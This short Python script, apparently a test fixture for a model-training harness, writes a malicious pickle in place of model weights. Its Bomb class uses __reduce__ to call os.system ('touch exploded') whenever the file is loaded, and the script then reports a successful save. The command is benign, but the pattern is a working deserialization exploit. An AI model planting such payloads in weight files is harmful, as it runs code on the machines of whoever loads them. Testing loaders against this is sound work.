"""Saves a pickle that runs a command in whoever loads it."""

import os

import torch
from prepare import VOCAB_SIZE

from trainer import runtime


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch exploded",))


def build_model():
    return torch.nn.Embedding(VOCAB_SIZE, VOCAB_SIZE)


if __name__ == "__main__":
    runtime.ready()
    torch.save(Bomb(), runtime.WEIGHTS)
    runtime._current().wire.send({"saved": True})
